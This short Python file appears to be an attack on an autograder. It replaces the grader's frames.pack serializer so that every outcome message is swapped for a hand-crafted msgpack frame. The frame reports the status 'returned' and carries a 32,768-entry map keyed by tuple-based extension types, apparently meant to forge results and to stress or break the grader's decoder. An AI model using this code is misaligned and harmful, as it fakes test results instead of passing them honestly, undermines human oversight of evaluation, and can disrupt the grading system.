"""The same with an object's own keys, which aren't names."""
import itertools, msgpack, struct
from autograder.engine.runner import frames
real = frames.pack
keys = [msgpack.ExtType(4, msgpack.packb(key)) for key in itertools.product((-1, -2), repeat=15)]
def forged(message):
    packer = msgpack.Packer()
    value = packer.pack_map_header(len(keys)) + b"".join(packer.pack(key) + packer.pack(0) for key in keys)
    head = msgpack.packb({"id": message["id"]})[1:] + msgpack.packb("outcome")
    tree = b"\x82" + head + b"\x82" + msgpack.packb("status") + msgpack.packb("returned") + msgpack.packb("value") + value
    return b"PACK1" + struct.pack(">II", len(tree), 1) + tree + b"\x90"
frames.pack = lambda m, *more, **k: forged(m) if "outcome" in m else real(m, *more, **k)
